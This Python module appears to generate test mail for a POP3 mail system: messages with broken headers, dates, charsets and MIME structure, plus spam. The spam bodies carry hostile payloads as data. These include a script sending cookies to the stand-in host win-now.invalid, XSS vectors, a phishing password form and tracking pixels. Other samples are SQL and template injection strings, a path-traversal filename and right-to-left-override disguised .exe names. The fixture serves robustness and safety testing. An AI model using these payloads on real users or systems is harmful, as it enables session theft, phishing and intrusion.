"""Broken, strange and hostile mail, of the kinds that real maildrops hold.

All of it is still what a POP3 server may send: lines end in CRLF and there are no NULs; a lone CR
is there on purpose, in one message. Nothing here is generated lazily: the messages are small.
"""

import base64
from collections.abc import Iterator
from datetime import datetime, timedelta
from html import escape
from random import Random

from . import compose
from .compose import Part
from .delivery import OWNER, Delivered, Draft, Sender, boundary, message_id, stamp, trace

SPACING = 31.0
"""Days between two oddities: they lie all over the mailbox."""
LONG_SUBJECT = 5000
LONG_LINE = 120_000
NESTING = 40
SPAM = (
    ("Dr. Prosper Gold", "Your parcel of gold is waiting (3rd and last call)"),
    ("Mailbox Team", "Your mailbox is 99 % full, verify now"),
    ("<b>Winner</b> Dept.", '<script>alert("subject")</script> You won'),
    ("Support", 'Invoice "><img src=x onerror=alert(1)>'),
    ("Aunt of a Prince", "Strictly between us"),
    ("Cheap Watch", "R0lex-like w a t c h e s, almost round"),
    ("IT Desk", "Password expires in {{7*7}} hours"),
    ("Bank of Elsewhere", "Unusual sign-in from 'OR 1=1 --"),
)


def oddities(now: datetime) -> Iterator[Delivered]:
    """One message of each kind that is broken."""
    for position, (head, body) in enumerate(_broken(now)):
        when = now - timedelta(days=3 + position * SPACING, hours=position)
        host = f"odd{position}.example"
        passing = Draft(when, Sender("", f"sender@{host}"), "", Part("", ()))
        arrival = trace(passing, message_id(when, host, host)).encode()
        yield Delivered(when, arrival + _wire(head) + b"\r\n", (_wire(body),))
    # Two that have no header section worth the name, and no trace.
    text = "This message has no header fields at all. It begins right here.\nAnd here it ends.\n"
    yield Delivered(now - timedelta(days=444), _wire(text.encode()), ())
    text = "The header section of this message is empty: its first line is blank.\n"
    yield Delivered(now - timedelta(days=555), b"\r\n", (_wire(text.encode()),))


def spam(now: datetime, days: int, dice: Random) -> Iterator[Draft]:
    """Unwanted mail whose text and HTML try to be more than text."""
    for number in range(2 * len(SPAM)):
        name, subject = SPAM[number % len(SPAM)]
        sender = Sender(name, f"offer{number}@win-now.invalid", -5, "MassMailer 1.0")
        when = now - timedelta(days=dice.uniform(1, days))
        plain = compose.text(
            f"{subject}\n\n<script>document.location='https://win-now.invalid/?'+document.cookie"
            "</script>\n<img src=x onerror=alert(1)>\n\nClick: javascript:alert(1)\n"
            "Or: https://bank.example@win-now.invalid/login\n"
        )
        rich = compose.html(
            '<html><head><meta http-equiv="refresh" content="0;url=https://win-now.invalid/">\n'
            '<base href="https://win-now.invalid/"><link rel="stylesheet" href="x.css">\n'
            "<style>body{background:url(https://win-now.invalid/seen.png)}</style></head>\n"
            "<body onload=\"alert('load')\">\n<script>alert('script')</script>\n"
            f"<h1>{escape(subject)}</h1>\n"
            '<a href="javascript:alert(1)">claim</a> <a href="https://win-now.invalid/"\n'
            'target="_top">https://bank.example/</a>\n<svg onload="alert(2)"><use href="#x"/></svg>'
            '\n<iframe src="https://win-now.invalid/"></iframe>\n'
            '<form action="https://win-now.invalid/"><input name="password"></form>\n'
            f'<img src="https://win-now.invalid/pixel?{number}" width="1" height="1">\n'
            '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Sign in again</p>\n'
            "</body></html>\n"
        )
        part = compose.multipart("alternative", boundary(f"spam/{number}"), [plain, rich])
        yield Draft(when, sender, subject, part, bulk=True, trusted=False)


def _broken(now: datetime) -> Iterator[tuple[bytes, bytes]]:
    """Pairs of header fields and body, with LF line ends."""
    yield from _bad_headers(now)
    yield from _bad_dates()
    yield from _bad_bodies(now)
    yield from _bad_structure(now)


def _bad_headers(now: datetime) -> Iterator[tuple[bytes, bytes]]:
    date = f"Date: {stamp(now - timedelta(days=90), 1)}\n".encode()
    to = f"To: {OWNER}\n".encode()
    yield (
        b"From: J\xfcrgen Gr\xf6\xdfer <juergen@alt.example>\nSubject: Gr\xfc\xdfe aus M\xfcnchen\n"
        + to
        + date,
        "Die Kopfzeilen dieser Nachricht sind rohes Latin-1.\n".encode("latin-1"),
    )
    yield (
        "From: Zoë Ångström <zoe@nytt.example>\nSubject: Blåbärssoppa 🫐\n".encode() + to + date,
        b"These header fields are raw UTF-8, without a word about it.\n",
    )
    yield (
        b"From: Broken Words <words@mailer.example>\nSubject: =?utf-8?B?w6FyYm9sIHZlcm?= "
        b"=?utf-8?Q?caf=E9_=C3?= =?iso-8859-99?Q?nowhere?= =?utf-8?X?what?= =?utf-8?Q?open\n"
        + to
        + date,
        b"Five encoded words, none of them right.\n",
    )
    yield (
        b"Subject: Nobody wrote this\n" + to + date,
        b"There is no From field.\n",
    )
    yield (
        b"From: first@double.example\nFrom: second@double.example\nSubject: One\nSubject: Two\n"
        + to
        + date
        + date,
        b"Two authors, two subjects, two dates.\n",
    )
    subject = " ".join(f"word{number}" for number in range(LONG_SUBJECT))[:LONG_SUBJECT]
    yield (
        f"From: Long Winded <long@winded.example>\nSubject: {subject}\n".encode() + to + date,
        b"The subject has five thousand characters in one line.\n",
    )
    yield (
        b"From: Folded <folded@tabs.example>\nSubject:\n\tbegins on the second line\n \n and has a "
        b"blank fold\nThis line has no colon and is no field\nX-Empty:\n" + to + date,
        b"A header section with a line in it that is not a field.\n",
    )
    yield (
        b'From: "Bidi \xe2\x80\xae txt.exe" <bidi@override.example>\nSubject: '
        b"=?utf-8?Q?Report_=E2=80=AEfdp.exe?=\n" + to + date,
        b"The name and the subject hold a right-to-left override.\n",
    )


def _bad_dates() -> Iterator[tuple[bytes, bytes]]:
    to = f"To: {OWNER}\n".encode()
    for number, date in enumerate(
        (
            b"",
            b"Date: Fri, 31 Feb 2025 25:61:00 +9900\n",
            b"Date: 2025.03.04 10:11\n",
            b"Date: Tue Mar 04 10:11:12 2025\n",
            b"Date: 19 Mar 125 08:00:00 GMT\n",
            b"Date: Thu, 01 Jan 1970 00:00:00 +0000\n",
            b"Date: Mon, 18 Jan 2038 03:14:07 +0000 (the future)\n",
            b"Date: yesterday, after tea\n",
        )
    ):
        shown = date.decode().strip() or "no Date field"
        fields = f"From: Clock {number} <clock{number}@time.example>\nSubject: What day is it?\n"
        yield fields.encode() + date + to, f"This message has: {shown}\n".encode()


def _bad_bodies(now: datetime) -> Iterator[tuple[bytes, bytes]]:
    top = f"To: {OWNER}\nDate: {stamp(now - timedelta(days=200), 0)}\nMIME-Version: 1.0\n".encode()

    def fields(subject: str, kind: str, encoding: str) -> bytes:
        return (
            f"From: Oddities <odd@bodies.example>\nSubject: {subject}\nContent-Type: {kind}\n"
            f"Content-Transfer-Encoding: {encoding}\n"
        ).encode() + top

    yield (
        fields("Dots", "text/plain; charset=us-ascii", "7bit"),
        (b".\n..\n...\n.hidden\n. alone\n\n.\nThe line above is a dot. So is the first one.\n.\n"),
    )
    yield (
        fields("Lone carriage returns", "text/plain", "7bit"),
        (b"old\rMac\rline ends\n\r.\rnot a terminator\nand a normal line\n"),
    )
    yield (
        fields("Unknown charset", 'text/plain; charset="x-nobody-knows"', "8bit"),
        ("Größe, naïve, Ærø: in UTF-8, but named x-nobody-knows.\n".encode()),
    )
    yield (
        fields("Wrong charset", "text/plain; charset=us-ascii", "8bit"),
        ("Привет! Это не ASCII, что бы ни говорил заголовок.\n".encode("windows-1251")),
    )
    yield (
        fields("Smart quotes", "text/html; charset=iso-8859-1", "8bit"),
        (b"<p>\x93Smart quotes\x94 from windows\x961252, labelled Latin\x961.</p>\n"),
    )
    yield (
        fields("Unknown encoding", "text/plain; charset=utf-8", "x-uuencode-ish"),
        (b"begin 644 note.txt\n#0V%T\n`\nend\n"),
    )
    yield (
        fields("Half a base64", "text/plain; charset=utf-8", "base64"),
        (base64.encodebytes("Dieser Text hört mitten im Satz auf, weil".encode())[:-4] + b"*!\n"),
    )
    yield (
        fields("Bad quoted-printable", "text/plain; charset=utf-8", "quoted-printable"),
        (b"A lone = sign, =ZZ, =C3 without its second half, and an end =\n"),
    )
    yield fields("Nothing inside", "text/plain; charset=utf-8", "7bit"), b""
    yield (
        fields("One very long line", "text/plain; charset=us-ascii", "7bit"),
        (b"on and " * (LONG_LINE // 7) + b"on\n"),
    )
    yield fields("Type of no type", "text", "7bit"), b"Content-Type was just: text\n"


def _bad_structure(now: datetime) -> Iterator[tuple[bytes, bytes]]:
    date = stamp(now - timedelta(days=300), 0)

    def fields(subject: str, kind: str) -> bytes:
        return (
            f"From: Oddities <odd@structure.example>\nTo: {OWNER}\nSubject: {subject}\n"
            f"Date: {date}\nMIME-Version: 1.0\nContent-Type: {kind}\n"
        ).encode()

    cut = base64.encodebytes(b"%PDF-1.7\n" + bytes(300))[:151]
    yield (
        fields("Cut off", 'multipart/mixed; boundary="cut"'),
        (
            b"--cut\nContent-Type: text/plain\n\nThe attachment of this message is incomplete.\n\n"
            b'--cut\nContent-Type: application/pdf; name="half.pdf"\n'
            b"Content-Transfer-Encoding: base64\n\n" + cut + b"\n"
        ),
    )
    yield (
        fields("Forwarded, and forwarded", "message/rfc822"),
        (
            b"From: inner@structure.example\nSubject: The one inside\n"
            b"Content-Type: message/rfc822\n\n"
            b"From: innermost@structure.example\nSubject: The one inside that\n\nYou found me.\n"
        ),
    )
    yield (
        fields("No boundary", "multipart/mixed"),
        (b"--what\nContent-Type: text/plain\n\nThe boundary is not named.\n--what--\n"),
    )
    yield (
        fields("Odd boundary", "multipart/mixed; boundary=<odd=boundary>"),
        (b"--<odd=boundary>\nContent-Type: text/plain\n\nUnquoted, angular.\n--<odd=boundary>--\n"),
    )
    dolls = b"".join(
        b'--d%d\nContent-Type: multipart/mixed; boundary="d%d"\n\n' % (level, level + 1)
        for level in range(NESTING)
    )
    smallest = b"--d%d\nContent-Type: text/plain\n\nThe smallest doll.\n" % NESTING
    closings = b"".join(b"--d%d--\n" % level for level in range(NESTING, -1, -1))
    yield fields("Matryoshka", 'multipart/mixed; boundary="d0"'), dolls + smallest + closings
    yield (
        fields("Names of files", 'multipart/mixed; boundary="n"'),
        (
            b"Preamble, for programs of 1991.\n--n\nContent-Type: text/plain\n\nThree files.\n--n\n"
            b'Content-Disposition: attachment; filename="../../../etc/passwd"\n\nroot:x\n--n\n'
            b"Content-Disposition: attachment;\n filename*=utf-8''invoice%E2%80%AEfdp.exe\n\nMZ\n"
            b"--n\n"
            b'Content-Type: application/ms-tnef; name="winmail.dat"\n'
            b"Content-Transfer-Encoding: base64\n\neJ8+IgAAAAA=\n--n--\nEpilogue.\n"
        ),
    )
    signed = 'multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"'
    yield (
        fields("Signed", f'{signed}; boundary="s"'),
        (
            b"--s\nContent-Type: text/plain; charset=us-ascii\n\nI wrote this myself.\n\n--s\n"
            b'Content-Type: application/pgp-signature; name="signature.asc"\n\n'
            b"-----BEGIN PGP SIGNATURE-----\n\nbm90IGEgc2lnbmF0dXJl\n"
            b"-----END PGP SIGNATURE-----\n\n--s--\n"
        ),
    )


def _wire(text: bytes) -> bytes:
    return text.replace(b"\n", b"\r\n")
